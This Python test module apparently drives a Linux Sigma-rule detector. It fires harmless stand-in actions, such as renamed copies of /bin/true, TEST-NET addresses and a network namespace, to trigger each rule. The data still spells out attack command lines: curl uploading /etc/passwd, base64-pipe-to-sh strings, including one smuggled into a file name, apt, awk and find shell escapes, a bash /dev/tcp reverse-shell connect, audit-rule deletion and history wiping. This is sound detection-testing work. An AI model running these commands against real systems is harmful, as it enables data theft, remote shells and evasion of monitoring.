# SPDX-License-Identifier: GPL-2.0-or-later
"""The test actions of the Sigma rules in tests/sigma/rules/, in one table that
tests/system/test_sigma.py (against our own rules) and tests/sigma/own-actions
(against the SigmaHQ rules they mirror) both run.

An action does for real what a rule is about: an exec with the flagged
arguments (a copy of /bin/true, /bin/dash or the sgact driver under the name
the rule looks for, or the real harmless command), a file write or rename to
a path the rule matches, a connect to an address inside a network namespace.
It returns what it did as {Sigma file: (pred, type)}: for each rule of ours
that should act on it, a predicate for the event and the event type (None:
any type).  It leaves nothing behind but what is in ctx.tmp.

ACTIONS lists every action with the Sigma files it is for; every file of
tests/sigma/rules/ is named by at least one (test_sigma.py checks)."""

import os
import shutil
import subprocess
import uuid

RULES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "rules")


class Skip(Exception):
    """The action cannot run on this machine (the reason is the message)."""


class Ctx:
    """Where an action runs.  tmp: a directory of its own under /tmp;
    sgact: a function running the syscall driver, returning (pid, results)
    (conftest.sgact); sgact_path: the driver's path; netns: the name of a
    network namespace with 198.51.100.1 on its loopback link, or None."""

    def __init__(self, tmp, sgact, sgact_path, netns=None):
        self.tmp = tmp
        self.sgact = sgact
        self.sgact_path = sgact_path
        self.netns = netns


def fake(tmp, name, source="/bin/true"):
    """A copy of source named name: exec'ing it is an exec of 'name'."""
    d = os.path.join(tmp, "bin")
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, name)
    shutil.copy(source, path)
    os.chmod(path, 0o755)
    return path


def run(argv, **kw):
    """Run argv to its end, with no input and its output discarded; its pid."""
    kw.setdefault("stdin", subprocess.DEVNULL)
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait()
    return p.pid


def by_pid(pid):
    return lambda e: e["proc"]["pid"] == pid


def child_of(pid, exe_suffix):
    """An event of a child of pid whose program's path ends with exe_suffix."""
    return lambda e: e["proc"].get("ppid") == pid and e["proc"]["exe"].endswith(exe_suffix)


# ------------------------------------------------------------ process_creation

EXEC_CASES = [
    # (Sigma file, program name or absolute path, arguments)
    ("pc_apt_shell.yml", "apt-get", ["-o", "APT::Update::Pre-Invoke::=/bin/sh", "update"]),
    ("pc_kaspersky_stop.yml", "systemctl", ["stop", "kesl"]),
    ("pc_awk_shell.yml", "awk", ['BEGIN {system("/bin/sh")}']),
    ("pc_base64_decode.yml", "/usr/bin/base64", ["-d", "/dev/null"]),
    ("pc_auditctl_delete.yml", "auditctl", ["-D"]),
    ("pc_curl_upload.yml", "curl", ["-F", "f=@/etc/hostname", "http://198.51.100.7/up"]),
    ("pc_wget_suspicious_dir.yml", "wget", ["-O", "/tmp/x.bin", "http://198.51.100.7/x"]),
    ("pc_inode_listing.yml", "/bin/ls", ["-id", "/"]),
    ("pc_file_dir_discovery.yml", "/bin/ls", ["-R", "/nonexistent-sgtest"]),
    ("pc_capa_discovery.yml", "getcap", ["-r", "/usr/bin"]),
    ("pc_crontab_list.yml", "crontab", ["-l"]),
    ("pc_env_shell.yml", "/usr/bin/env", ["-i", "/bin/true", "/bin/sh"]),
    ("pc_base64_pipe_shell.yml", "true", ["echo aGkK | base64 -d | sh"]),
    # Sigma ignores case: the rule lists 'log4shell' and 'exploit'
    ("pc_git_clone_exploit.yml", "git", ["clone", "https://198.51.100.7/Log4Shell-EXPLOIT"]),
]


def exec_case(name, prog, args):
    """The action of one EXEC_CASES row."""
    def act(ctx):
        exe = prog if prog.startswith("/") else fake(ctx.tmp, prog)
        pid = run([exe] + args)
        return {name: (by_pid(pid), "exec")}
    return act


def dd_overwrite(ctx):
    out = os.path.join(ctx.tmp, "disk.img")
    pid = run(["/usr/bin/dd", "if=/dev/zero", "of=" + out, "bs=512", "count=1"])
    return {"pc_dd_overwrite.yml": (by_pid(pid), "exec")}


def git_clone_other_case(ctx):
    """The keyword in another case than the rule's and than its cased filter's."""
    pid = run([fake(ctx.tmp, "git"), "clone", "https://198.51.100.7/sgtest-ignore-poc-1"])
    return {"pc_git_clone_exploit.yml": (by_pid(pid), "exec")}


def netcat_probe(ctx):
    """netcat, not listening."""
    pid = run([fake(ctx.tmp, "nc"), "-z", "198.51.100.7", "22"])
    return {"pc_net_tools.yml": (by_pid(pid), "exec")}


def nmap_scan(ctx):
    """a scanner: alert, even with -l"""
    pid = run([fake(ctx.tmp, "nmap"), "-sT", "-l", "198.51.100.7"])
    return {"pc_net_tools.yml": (by_pid(pid), "exec")}


def curl_upload(ctx):
    """An upload: Curl Usage (low) and Suspicious Curl File Upload (medium)."""
    pid = run([fake(ctx.tmp, "curl"), "--upload-file", "/etc/passwd", "http://198.51.100.7/up"])
    return {"pc_curl_upload.yml": (by_pid(pid), "exec"), "pc_curl_any.yml": (by_pid(pid), "exec")}


def curl_plain(ctx):
    pid = run([fake(ctx.tmp, "curl"), "-s", "http://198.51.100.7/"])
    return {"pc_curl_any.yml": (by_pid(pid), "exec")}


def git_parent_shell(ctx):
    """ParentImage and ParentCommandLine: the parent is a shell named git, run
    with ' -p ' and 'help' among its arguments, whose child is 'sh 0<&1'."""
    git = fake(ctx.tmp, "git", "/bin/dash")
    true = fake(ctx.tmp, "true")
    marker = "sgtest-" + uuid.uuid4().hex
    # two commands, so that the shell forks rather than exec'ing the last one
    run([git, "-c", "%s %s 'sh 0<&1'; :" % (true, marker), "git", "-p", "help"])
    return {"pc_git_shell.yml": (lambda e: marker in e["exec"]["argv"], "exec")}


def find_shell(ctx):
    """find . -exec /bin/sh -p ; -quit, in a directory holding one file: find
    runs one 'sh -p', which reads its empty input and ends.  Shell Execution via
    Find (high) and File and Directory Discovery (informational)."""
    d = os.path.join(ctx.tmp, "find")
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, "file"), "w").close()
    pid = run(["/usr/bin/find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"], cwd=d)
    return {"pc_find_shell.yml": (by_pid(pid), "exec"),
            "pc_file_dir_discovery.yml": (by_pid(pid), "exec")}


def history_delete(ctx):
    """The real rm deleting a .bash_history, one in ctx.tmp: History File
    Deletion (high) and File Deletion (informational)."""
    d = os.path.join(ctx.tmp, "home")
    os.makedirs(d, exist_ok=True)
    hist = os.path.join(d, ".bash_history")
    with open(hist, "w") as f:
        f.write("true\n")
    pid = run(["/usr/bin/rm", "-f", hist])
    if os.path.exists(hist):
        raise AssertionError("rm left " + hist)
    return {"pc_history_delete.yml": (by_pid(pid), "exec"),
            "pc_file_deletion.yml": (by_pid(pid), "exec")}


def webshell_hostname(ctx):
    """A shell named nginx runs the real hostname: Linux Webshell Indicators
    (high) and System Information Discovery (informational) on hostname's exec."""
    nginx = fake(ctx.tmp, "nginx", "/bin/dash")
    # two commands, so that the shell forks rather than exec'ing the last one
    pid = run([nginx, "-c", "/usr/bin/hostname; :"])
    pred = child_of(pid, "/hostname")
    return {"pc_webshell.yml": (pred, "exec"), "pc_system_info_discovery.yml": (pred, "exec")}


def mkfifo_tmp(ctx):
    """The real mkfifo making a named pipe in ctx.tmp (under /tmp/): the /tmp
    rule (medium) and Named Pipe Created Via Mkfifo (low)."""
    if not ctx.tmp.startswith("/tmp/"):
        raise Skip("the temporary directory %s is not under /tmp/" % ctx.tmp)
    fifo = os.path.join(ctx.tmp, "f-" + uuid.uuid4().hex[:8])
    pid = run(["/usr/bin/mkfifo", fifo])
    os.unlink(fifo)  # and fails when mkfifo made nothing
    return {"pc_mkfifo_tmp.yml": (by_pid(pid), "exec"),
            "pc_mkfifo_any.yml": (by_pid(pid), "exec")}


# ------------------------------------------------------------------ file_event

def file_writes(ctx):
    """Files created by the driver: an etc/doas.conf, an etc/crontab, a name
    with an embedded base64 command, the Triple Cross backdoor's name."""
    doas = os.path.join(ctx.tmp, "etc", "doas.conf")
    crontab = os.path.join(ctx.tmp, "etc", "crontab")
    os.makedirs(os.path.dirname(doas), exist_ok=True)
    named = os.path.join(ctx.tmp, "{echo,aGkK}|{base64,-d}|sh")
    backdoor = os.path.join(ctx.tmp, "ebpfbackdoor")
    pid, res = ctx.sgact("pid", "open", doas, "wc", "open", crontab, "wc", "open", named, "wc",
                         "open", backdoor, "wc")
    if not all(r >= 0 for r in res["open"]):
        raise AssertionError(res)

    def at(path):
        return lambda e: e["proc"]["pid"] == pid and e["file"]["path"] == path
    return {"fe_doas_conf.yml": (at(doas), None), "fe_cron_file.yml": (at(crontab), None),
            "fe_base64_filename.yml": (at(named), None),
            "fe_triple_cross_persist.yml": (at(backdoor), None)}


def triple_cross_lock(ctx):
    path = "/tmp/rootlog"
    if os.path.lexists(path):
        raise Skip("%s exists on this machine; not touching it" % path)
    try:
        pid, _ = ctx.sgact("pid", "open", path, "wc")
    finally:
        if os.path.lexists(path):
            os.unlink(path)
    return {"fe_triple_cross_lock.yml": (by_pid(pid), "open")}


def wget_writes_in_tmp(ctx):
    """The driver, under wget's name, creating a file in ctx.tmp (under /tmp/)."""
    wget = fake(ctx.tmp, "wget", ctx.sgact_path)
    target = os.path.join(ctx.tmp, "payload.bin")
    if not target.startswith("/tmp/"):
        raise Skip("the temporary directory %s is not under /tmp/" % ctx.tmp)
    p = subprocess.run([wget, "pid", "open", target, "wc"], capture_output=True, text=True,
                       check=True)
    pid = int(p.stdout.split()[1])
    return {"fe_wget_tmp.yml": (lambda e: by_pid(pid)(e) and e["file"]["path"] == target,
                                "open")}


CRON_D = "/etc/cron.d"


def cron_rename(ctx):
    """A file made in ctx.tmp and renamed into /etc/cron.d (then out again
    into ctx.tmp, and in any case removed from there): New Cron File Created on
    the rename in.  The name has a dot, so cron would skip it were it running
    (run-parts names); /etc is on the same file system as /tmp here, or the
    rename fails (EXDEV) and the action with it."""
    if not os.path.isdir(CRON_D):
        raise Skip("no %s on this machine" % CRON_D)
    src = os.path.join(ctx.tmp, "job")
    target = os.path.join(CRON_D, "sgtest.%s" % uuid.uuid4().hex)
    back = os.path.join(ctx.tmp, "job-back")
    try:
        pid, res = ctx.sgact("pid", "open", src, "wc", "rename", src, target,
                             "rename", target, back)
    finally:
        if os.path.lexists(target):
            os.unlink(target)
    if res.get("rename") != [0, 0]:
        raise AssertionError("renames: %s" % res)
    return {"fe_cron_file.yml": (lambda e: e["proc"]["pid"] == pid
                                 and e["file"].get("new_path") == target, "rename")}


# --------------------------------------------------------- network_connection

def callback_connect(ctx):
    """A connect to a callback port, 198.51.100.1:4444 in ctx.netns (refused:
    nothing listens)."""
    p = subprocess.run(["ip", "netns", "exec", ctx.netns, ctx.sgact_path, "pid", "connect",
                        "198.51.100.1", "4444"], capture_output=True, text=True)
    pid = int(p.stdout.split()[1])
    return {"nc_callback_port.yml": (by_pid(pid), "connect")}


def bash_connect(ctx):
    """bash connecting out (in ctx.netns): the reverse shell indicator."""
    pid = run(["ip", "netns", "exec", ctx.netns, "/bin/bash", "-c",
               "exec 3<>/dev/tcp/198.51.100.1/8080"])
    return {"nc_reverse_shell.yml": (lambda e: e["proc"]["ppid"] == pid
                                     or e["proc"]["pid"] == pid, "connect")}


# ---------------------------------------------------------------- the table

# (name, function, the Sigma files its result names)
ACTIONS = [("exec " + c[0][:-4], exec_case(*c), (c[0],)) for c in EXEC_CASES] + [
    ("dd overwrite", dd_overwrite, ("pc_dd_overwrite.yml",)),
    ("git clone, other case", git_clone_other_case, ("pc_git_clone_exploit.yml",)),
    ("netcat probe", netcat_probe, ("pc_net_tools.yml",)),
    ("nmap scan", nmap_scan, ("pc_net_tools.yml",)),
    ("curl upload", curl_upload, ("pc_curl_upload.yml", "pc_curl_any.yml")),
    ("curl plain", curl_plain, ("pc_curl_any.yml",)),
    ("git parent shell", git_parent_shell, ("pc_git_shell.yml",)),
    ("find -exec sh", find_shell, ("pc_find_shell.yml", "pc_file_dir_discovery.yml")),
    ("rm .bash_history", history_delete, ("pc_history_delete.yml", "pc_file_deletion.yml")),
    ("nginx runs hostname", webshell_hostname,
     ("pc_webshell.yml", "pc_system_info_discovery.yml")),
    ("mkfifo in /tmp", mkfifo_tmp, ("pc_mkfifo_tmp.yml", "pc_mkfifo_any.yml")),
    ("file writes", file_writes, ("fe_doas_conf.yml", "fe_cron_file.yml",
                                  "fe_base64_filename.yml", "fe_triple_cross_persist.yml")),
    ("/tmp/rootlog", triple_cross_lock, ("fe_triple_cross_lock.yml",)),
    ("wget writes in /tmp", wget_writes_in_tmp, ("fe_wget_tmp.yml",)),
    ("rename into /etc/cron.d", cron_rename, ("fe_cron_file.yml",)),
    ("connect to a callback port", callback_connect, ("nc_callback_port.yml",)),
    ("bash connects out", bash_connect, ("nc_reverse_shell.yml",)),
]

NEEDS_NETNS = (callback_connect, bash_connect)
